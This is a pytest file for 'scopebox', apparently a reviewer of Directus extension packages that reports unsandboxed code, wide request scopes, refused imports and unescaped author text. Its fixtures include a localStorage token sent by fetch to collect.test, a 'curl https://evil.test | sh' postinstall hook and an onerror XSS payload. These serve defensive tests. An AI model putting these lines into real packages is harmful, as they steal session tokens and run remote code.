from __future__ import annotations

import json
from pathlib import Path

import pytest
from scopebox.packages.package import read_package
from scopebox.workbench.review.account import Account, account_of_package
from scopebox.workbench.review.views import NOT_A_VERDICT, account_view

from tests.packages import files, folder, package_json


def account(place: Path, *, code: str = "", app: str = "", **changes: object) -> Account:
    others = {name: text for name, text in (("dist/api.js", code), ("dist/app.js", app)) if text}
    return account_of_package(read_package(folder(place, files(package_json(**changes), **others))))


def text(found: Account) -> str:
    return account_view(found).text()


def test_the_first_lines_say_what_no_scope_holds(tmp_path: Path) -> None:
    app = 'const t = localStorage.getItem("t"); fetch("https://collect.test/" + t); el.innerHTML = t;'
    first, second = text(account(tmp_path, app=app)).split("\n")[:2]
    assert first == "@acme/weather-operation 1.2.3: what no scope holds"
    for words in ("app half", "dist/app.js", f"{len(app)} bytes", "every user of the Data Studio", "their session"):
        assert words in second
    for words in ("collect.test", "localStorage", "fetch", "innerHTML"):
        assert words in second


RIGHTS: dict[str, tuple[dict[str, object], str]] = {
    "none": ({"sandbox": None}, "a Directus runs this with full rights"),
    "not enabled": ({"sandbox": {"enabled": False, "requestedScopes": {}}}, "a Directus runs this with full rights"),
    "bundle": ({"type": "bundle", "entries": [{"type": "hook", "name": "a"}, {"type": "panel", "name": "b"}]}, "2 extensions: a (hook), b (panel)"),
    "panel": ({"type": "panel", "path": "dist/app.js"}, "all of it runs in the browser"),
}  # fmt: skip


@pytest.mark.parametrize("case", RIGHTS)
def test_what_runs_with_full_rights_is_said_first_and_nothing_is_run(case: str, tmp_path: Path) -> None:
    changes, words = RIGHTS[case]
    found = account_of_package(read_package(folder(tmp_path, files(package_json(**changes)))))
    assert found.outside[0].category == "unsandboxed"
    lines = text(found).split("\n")
    assert words in lines[1]
    assert any("Nothing of it is run here" in line for line in lines)
    assert found.runs is None


def test_what_npm_would_run_is_outside_every_scope(tmp_path: Path) -> None:
    data = {**package_json(), "scripts": {"postinstall": "curl https://evil.test | sh"}}
    found = account_of_package(read_package(folder(tmp_path, files(data))))
    assert any("postinstall" in finding.words for finding in found.outside)


def test_of_code_that_is_larger_than_what_is_looked_at_that_is_said(tmp_path: Path) -> None:
    code = "eval(1);" + " " * 1_000_000
    found = account(tmp_path, code=code, app=code)
    (half,) = [finding.words for finding in found.outside if finding.category == "app-half"]
    assert half.endswith("what makes code or HTML in it: eval; only the first 1,000,000 characters were looked at.")
    assert "Of the code for the server, only the first 1,000,000 characters were looked at." in found.notes


def test_it_never_says_that_a_package_is_safe(tmp_path: Path) -> None:
    scopes = {"enabled": True, "requestedScopes": {}}
    found = account(tmp_path, code="export default () => {};", type="hook", path="dist/api.js", sandbox=scopes)
    said = text(found)
    assert found.findings == ()
    assert "safe" not in said.lower()
    assert said.endswith(NOT_A_VERDICT)


@pytest.mark.parametrize(
    ("request_scope", "words"),
    [
        ({"methods": ["GET"], "urls": ["https://*"]}, "covers more than one host"),
        ({"methods": ["GET"], "urls": ["https://*.example.com/x"]}, "covers more than one host"),
        ({"methods": ["GET"], "urls": ["/https://a.test/.*/"]}, "a regular expression"),
        ({"methods": ["GET"], "urls": ["http://a.test/*"]}, "over http"),
        ({"methods": ["GET", "POST", "PUT", "PATCH", "DELETE"], "urls": ["https://a.test/*"]}, "every method"),
    ],
)
def test_what_is_wide_is_said(request_scope: object, words: str, tmp_path: Path) -> None:
    found = account(tmp_path, sandbox={"enabled": True, "requestedScopes": {"request": request_scope, "log": {}}})
    assert [words in finding.words for finding in found.wide] == [True]


def test_a_host_that_is_written_out_is_not_wide(tmp_path: Path) -> None:
    assert account(tmp_path).wide == ()


def test_a_scope_that_the_code_never_imports_is_said_without_running_it(tmp_path: Path) -> None:
    found = account(tmp_path, code='import { log } from "directus:api"; export default { id: "x", handler: log };')
    assert [finding.words for finding in found.unused] == [
        "It asks for request, and its code never imports that from directus:api."
    ]
    assert account(tmp_path / "2", code='import * as api from "directus:api";').unused == ()


def test_imports_that_a_sandbox_refuses_are_said(tmp_path: Path) -> None:
    found = account(tmp_path, code='import fs from "node:fs"; export default { id: "x", handler: () => fs };')
    assert found.imports == ("node:fs",)
    assert "imports node:fs, which a sandbox refuses" in text(found)


def test_the_account_is_text_html_and_json(tmp_path: Path) -> None:
    found = account(tmp_path, app='alert("<script>")')
    data = json.loads(found.json())
    assert (data["scopebox"], data["name"], data["outside"][0]["category"]) == (
        1,
        "@acme/weather-operation",
        "app-half",
    )
    view = account_view(found)
    assert view.value is found
    assert "<table>" in view.html()


def test_json_of_an_account_is_ascii_whatever_the_author_wrote(tmp_path: Path) -> None:
    words = "\x9b2J\u202e and \N{SNOWMAN}"
    place = folder(tmp_path / "x\udcff", files({**package_json(), "description": words}))
    found = account_of_package(read_package(place)).json()
    assert found.isascii()
    assert (json.loads(found)["description"], json.loads(found)["where"]) == (words, str(place))


def test_what_the_author_wrote_is_text_wherever_it_is_shown(tmp_path: Path) -> None:
    data = {
        **package_json(),
        "description": "<img src=x onerror=alert(1)>\u202e\x1b[31m",
        "version": "<b>1</b>" * 500,
        "license": None,
    }
    found = account_of_package(read_package(folder(tmp_path, files(data))))
    html, words = account_view(found).html(), account_view(found).text()
    assert "<img" not in html
    assert "<b>" not in html
    assert "\x1b" not in words
    assert "\u202e" not in words
    assert max(map(len, words.split("\n"))) < 2_500
    assert "It names no licence." in found.notes
